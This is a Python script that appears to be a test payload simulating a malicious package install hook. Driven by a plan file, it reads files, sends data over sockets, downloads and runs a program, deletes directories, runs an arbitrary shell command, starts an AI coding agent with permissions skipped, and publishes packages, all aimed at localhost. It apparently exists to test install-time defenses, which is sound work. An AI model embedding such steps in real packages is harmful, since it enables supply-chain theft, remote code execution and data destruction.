"""Run by the package's install script, gated or not: does the steps of ``plan.json``, one after the other.

A program of its own (``python3 -I payload.py plan.json``), with nothing of ours imported: it is what a
package would bring along. That a step fails is the point of it; then comes the next one.
"""

from __future__ import annotations

import json
import os
import shutil
import socket
import subprocess
import sys
import tempfile
from pathlib import Path
from typing import Any

_SECONDS = 20


def main() -> None:
    plan = json.loads(Path(sys.argv[1]).read_text())
    if command := plan.pop("shell"):  # what stands in a binding.gyp runs as soon as that is looked at
        Path(sys.argv[1]).write_text(json.dumps({"shell": "", **plan}))
        subprocess.run(["/bin/sh", "-c", command], timeout=_SECONDS * 4)
        return
    for number, step in enumerate(plan["steps"]):
        print(f"step {number} begins", flush=True)
        try:
            _do(step)
        except (OSError, subprocess.SubprocessError) as error:
            print(f"step {number}: {error}", flush=True)


def _do(step: dict[str, Any]) -> None:
    path = Path(step["path"])
    port = step["port"]
    match step["verb"]:
        case "read":
            print(path.read_text(), flush=True)
        case "write" | "append":
            path.parent.mkdir(parents=True, exist_ok=True)
            with path.open("a") as file:
                file.write(step["text"])
        case "send":
            _send(port, step["text"])
        case "fetch":
            with tempfile.TemporaryDirectory() as folder:
                program = str(Path(folder, "setup"))
                subprocess.run(
                    ["curl", "-sS", "-o", program, f"http://127.0.0.1:{port}/setup"], timeout=_SECONDS
                )
                os.chmod(program, 0o700)
                subprocess.run([program], timeout=_SECONDS)
        case "wipe":
            shutil.rmtree(path)
        case "agent":
            subprocess.run(
                ["claude", "--dangerously-skip-permissions", "-p", f"print {path}"], timeout=_SECONDS
            )
        case "forge":
            subprocess.run(["gh", "repo", "create", "--public", f"127.0.0.1:{port}"], timeout=_SECONDS)
        case "publish":
            registry = f"http://127.0.0.1:{port}/"
            token = f"--//127.0.0.1:{port}/:_authToken=none"
            command = ["npm", "publish", "--offline=false", token, "--registry", registry]
            subprocess.run(command, timeout=_SECONDS)


def _send(port: int, text: str) -> None:
    with socket.create_connection(("127.0.0.1", port), timeout=_SECONDS) as connection:
        connection.sendall(text.encode())


if __name__ == "__main__":
    main()
